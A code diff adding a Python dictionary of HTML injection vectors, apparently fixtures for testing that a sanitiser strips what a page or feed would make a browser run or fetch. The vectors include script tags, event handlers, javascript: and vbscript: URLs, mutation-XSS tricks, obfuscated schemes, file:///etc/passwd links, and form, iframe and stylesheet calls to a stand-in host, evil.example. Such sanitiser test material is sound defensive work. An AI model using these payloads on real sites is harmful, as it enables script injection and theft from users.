@@ -82,3 +82,36 @@ SEEN = re.compile(
     "\u2028\u2029\u2060-\u206f\ufeff\U000e0000-\U000e007f]"
 )
 """Characters that no line of ours holds, in text or JSON."""
+
+HTML = {
+    "script": "<script>alert(1)</script>",
+    "script-in-text": "<<script>script>alert(1)<</script>/script>",
+    "handler": "<p onclick=alert(1) onmouseover='alert(1)'>click</p>",
+    "image": "<img src=x onerror=alert(1)><img src='javascript:alert(1)'>",
+    "data-image": "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
+    "svg": "<svg/onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</a></svg>",
+    "math": "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
+    "mutation": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "template": "<template><img src=x onerror=alert(1)></template>",
+    "frame": "<iframe srcdoc='<script>x()</script>' src='//evil.example'></iframe>",
+    "object": "<object data='javascript:x()'></object><embed src='//evil.example'>",
+    "form": "<form action='//evil.example'><input name=a autofocus onfocus=alert(1)>",
+    "style": "<style>@import '//evil.example';</style><p style='color:url(x)'>s</p>",
+    "meta": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "base": "<base href='javascript:/a/'><a href='x'>based</a>",
+    "link": "<link rel=stylesheet href='//evil.example/x.css'>",
+    "javascript": "<a href='javascript:alert(1)'>a</a>",
+    "spelled": "<a href=' \x01jAva&#x09;script&colon;alert(1)'>a</a>",
+    "vbscript": "<a href='vbscript:msgbox(1)'>a</a>",
+    "data": "<a href='data:text/html;base64,PHNjcmlwdD4='>a</a>",
+    "file": "<a href='file:///etc/passwd'>a</a><img src='file:///etc/passwd'>",
+    "markdown": "<p>[a](javascript:alert(1)) ![b](data:image/png;base64,AA) [c](ftp://d)",
+    "markdown-html": "<p>&lt;script&gt;x()&lt;/script&gt; &lt;img onerror=x&gt;</p>",
+    "markdown-code": "<pre>```\n&lt;script&gt;alert(1)&lt;/script&gt;\n```</pre>",
+    "class": "<pre class='x\" onclick=x()'><code class='language-c\"onload=x'>c</pre>",
+    "comment": "<!--><img src=x onerror=x()>--><![CDATA[<script>x()</script>]]>",
+    "attribute": "<a title='\"><script>alert(1)</script>' href='https://a.example/'>t</a>",
+    "audio": "<audio src=x onerror=x()></audio><video poster='javascript:x'></video>",
+    "popover": "<button popovertarget=x formaction='javascript:alert(1)'>b</button>",
+}
+"""What a page or a feed would like a browser to run or fetch."""
